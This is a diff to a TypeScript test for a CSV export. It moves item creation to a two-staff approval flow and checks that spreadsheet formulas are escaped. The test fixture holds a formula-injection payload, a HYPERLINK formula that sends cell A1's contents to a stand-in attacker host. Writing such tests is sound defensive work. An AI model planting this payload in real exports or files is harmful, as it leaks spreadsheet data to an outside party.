@@ -9,7 +9,8 @@ import { createAccount } from '../../auth/accounts.ts';
 import { writeAudit } from '../../auth/audit.ts';
 import { call } from '../../test/auth-helpers.ts';
 import { createCustomer, type Customer, openSession } from '../../test/customers.ts';
-import { createStaffMember, moneyPost } from '../../test/money-movements.ts';
+import { staffChange } from '../../test/approvals.ts';
+import { createStaffMember } from '../../test/money-movements.ts';
 import { createTestApp, type TestApp } from '../../test/test-app.ts';
 
 let t: TestApp;
@@ -309,13 +310,14 @@ describe('the CSV export', () => {
 
   it('escapes what a spreadsheet would run as a formula, and quotes what needs it', async () => {
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-    const added = await moneyPost(t, staff, '/admin/valuables', {
+    // Proposed by one staff member, approved by another: the approval audits the item added.
+    const added = await staffChange(t, staff, 'POST', '/admin/valuables', {
       userId: hostile.userId,
       itemName: formula,
       itemType: 'jewelry',
       estimatedValue: '10.00',
     });
-    expect(added.statusCode, added.body).toBe(201);
+    expect(added.status).toBe('approved');
     const res = await csv(`customer=${encodeURIComponent(hostile.email)}`);
     const rows = rowsOf(res.body).slice(1);
     const addedRow = cellsOf(rows.find((row) => row.includes('admin.valuable_added')) ?? '');
